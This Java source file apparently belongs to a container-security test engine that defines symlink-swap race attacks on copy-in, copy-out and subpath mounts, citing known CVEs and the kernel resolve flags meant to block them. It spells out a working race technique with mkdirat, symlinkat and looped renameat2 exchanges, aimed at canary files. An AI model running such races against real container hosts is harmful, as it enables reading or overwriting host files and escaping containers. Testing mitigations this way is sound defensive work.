package dev.jug.engine.attack;

import static dev.jug.runtime.plan.Arg.at;
import static dev.jug.runtime.plan.Arg.flags;
import static dev.jug.runtime.plan.Arg.mode;
import static dev.jug.runtime.plan.Arg.nil;
import static dev.jug.runtime.plan.Arg.var;

import dev.jug.engine.attack.Attack.Errand;
import dev.jug.engine.attack.Fence.BuiltIn;
import dev.jug.linux.Call;
import dev.jug.linux.Errno;
import dev.jug.runtime.plan.Block;
import java.util.List;

/**
 * A directory of the container becomes a link to one of the host's and a directory again, as fast
 * as the kernel swaps names, while somebody has the engine follow the path.
 */
public final class Races {
  /** Where the attacker's directory and link are, absolute in the container. */
  public static final String PLACE = "/race";

  /** What is a directory at one moment and a link at the next, below {@link #PLACE}. */
  public static final String PART = "real";

  private static final String DIRECTORY = PLACE + "/" + PART;
  private static final String LINK = PLACE + "/link";
  private static final int SWAPS = 1800;
  private static final long PAUSE_NANOSECONDS = 200_000;

  private Races() {}

  static List<Attack> all() {
    return List.of(
        race(
            "copy-out-race",
            "swap a directory for a link to the host's while cp reads from it",
            "CVE-2018-15664",
            "files of the host, given to whoever copies",
            Errand.COPY_OUT,
            "RESOLVE_IN_ROOT"),
        race(
            "copy-in-race",
            "swap a directory for a link to the host's while cp writes to it",
            "CVE-2018-15664, CVE-2019-14271",
            "files of the host, overwritten by root",
            Errand.COPY_IN,
            "RESOLVE_IN_ROOT"),
        race(
            "subpath-race",
            "swap a part of a volume for a link while another container mounts it",
            "CVE-2021-25741, CVE-2021-30465",
            "a directory of the host, mounted into a container",
            Errand.MOUNT_PART,
            "RESOLVE_BENEATH, mounted by its descriptor"));
  }

  private static Attack race(
      String name, String what, String source, String gain, Errand errand, String fence) {
    return new Attack(name, what, source, gain, List.of(new BuiltIn(fence)), Races::swap)
        .during(errand);
  }

  /**
   * What another container does that mounted the part: it reads a file that should not be there.
   */
  public static Attack look(String path) {
    return new Attack(
        "look", "", "", "", List.of(), (moves, scene) -> moves.readCanary(path, scene));
  }

  private static void swap(Moves moves, Scene scene) {
    moves.because("a directory, and beside it a link to one of the host's");
    directory(moves, PLACE);
    directory(moves, DIRECTORY);
    var target = moves.text(scene.canary().resolve("..").normalize().toString());
    moves.call(Call.SYMLINKAT, target, Moves.HERE, moves.text(LINK)).accept(Errno.EEXIST);
    moves.ready();
    moves.because("the one becomes the other");
    var one = moves.text(DIRECTORY);
    var other = moves.text(LINK);
    var exchange = flags(2, "RENAME_EXCHANGE");
    var pause = at(Block.struct(16, "a moment").put(8, 8, PAUSE_NANOSECONDS));
    for (int i = 0; i < SWAPS; i++) {
      moves.call(Call.RENAMEAT2, Moves.HERE, one, Moves.HERE, other, exchange);
      moves.call(Call.NANOSLEEP, pause, nil());
    }
  }

  private static void directory(Moves moves, String path) {
    moves.call(Call.MKDIRAT, Moves.HERE, moves.text(path), mode(0755)).accept(Errno.EEXIST);
    var file = moves.plan().slot("file");
    var make = flags(0x41, "O_WRONLY|O_CREAT");
    var name = moves.text(path + "/canary");
    moves.call(Call.OPENAT, Moves.HERE, name, make, mode(0644)).into(file);
    moves.call(Call.CLOSE, var(file));
  }
}
